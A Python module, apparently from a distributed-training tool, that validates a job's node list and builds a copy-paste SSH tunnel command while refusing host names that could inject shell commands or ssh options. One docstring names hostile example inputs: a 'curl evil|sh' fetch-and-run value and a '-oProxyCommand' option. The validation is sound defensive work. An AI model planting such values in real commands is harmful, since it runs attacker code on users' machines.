"""A multi-node job's nodes: which agent, on which host, holds which ranks of a run.

Every rank's hello carries the whole list (gathered over the job's own collective, or from the Ray
cluster's agents), so any one agent of the job can say where all the others are.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterable
from typing import Any
from urllib.parse import urlsplit

from pilothouse.wire.checks import check_int, check_name
from pilothouse.wire.urls import check_url

MAX_NODES = 4096
MAX_RANKS = 1 << 16
TUNNEL_PORT = 17767  # the first local port offered for a tunnel to another node (the CLI's and the app's)
_PLAIN_HOST = re.compile(r"[A-Za-z0-9][A-Za-z0-9_.-]{0,252}")  # what gethostname gives; never an ssh option


def check_nodes(nodes: Any) -> list[dict]:
    """``[{"host", "agent", "ranks": [int]}]``: one entry per (host, agent), ranks ascending."""
    if not isinstance(nodes, list) or not 0 < len(nodes) <= MAX_NODES:
        raise ValueError(f"nodes must be a list of 1 to {MAX_NODES} entries")
    seen: set[tuple[str, str]] = set()
    ranks: set[int] = set()
    for node in nodes:
        check_node(node)
        if (node["host"], node["agent"]) in seen:
            raise ValueError(f"node {node['host']} {node['agent']} is listed twice")
        seen.add((node["host"], node["agent"]))
        if ranks.intersection(node["ranks"]):
            raise ValueError(f"rank {min(ranks.intersection(node['ranks']))} is listed on two nodes")
        ranks.update(node["ranks"])
    return nodes


def check_node(node: Any) -> dict:
    """One entry of a job's nodes on its own (the app shows a bad one as unreachable, and why)."""
    if not isinstance(node, dict) or set(node) != {"host", "agent", "ranks"}:
        raise ValueError("each node must be a map of exactly host, agent and ranks")
    check_name(node["host"], "node host")
    try:
        check_url(node["agent"])
    except ValueError as exc:
        raise ValueError(f"node agent: {exc}") from None
    if not isinstance(node["ranks"], list) or any(type(r) is not int for r in node["ranks"]):
        raise ValueError("node ranks must be a list of integers")
    for r in node["ranks"]:
        check_int(r, "rank", 0, MAX_RANKS - 1)
    if node["ranks"] != sorted(set(node["ranks"])):
        raise ValueError("node ranks must be ascending, each once")
    return node


def tunnel_command(local_port: int, node: dict) -> str:
    """The SSH tunnel that brings ``node``'s loopback agent to this machine's ``local_port``: a
    command people paste into a shell, so the host (a name from a trainer's hello) must be a plain
    host name, or ``node;curl evil|sh`` runs a program and ``-oProxyCommand=...`` makes ssh run one;
    ValueError for any other."""
    host = node["host"]
    if not isinstance(host, str) or not _PLAIN_HOST.fullmatch(host):
        raise ValueError(f"no SSH tunnel to host {str(host)[:80]!r}: not a plain host name (letters, digits, "
                         "'.', '-', '_'); reach its agent by hand")
    return shlex.join(["ssh", "-N", "-L", f"{local_port}:127.0.0.1:{urlsplit(node['agent']).port}", host])


def group_ranks(members: Iterable[tuple[str, str, int]]) -> list[dict]:
    """(host, agent URL, rank) of every rank -> the job's nodes, in the order each first appears."""
    nodes: dict[tuple[str, str], list[int]] = {}
    for host, agent, rank in members:
        nodes.setdefault((host, agent), []).append(rank)
    return [{"host": h, "agent": a, "ranks": sorted(set(r))} for (h, a), r in nodes.items()]


def format_ranks(ranks: list[int]) -> str:
    """[0, 1, 2, 3, 8] -> '0-3,8'."""
    spans: list[list[int]] = []
    for r in ranks:
        if spans and r == spans[-1][1] + 1:
            spans[-1][1] = r
        else:
            spans.append([r, r])
    return ",".join(str(a) if a == b else f"{a}-{b}" for a, b in spans)
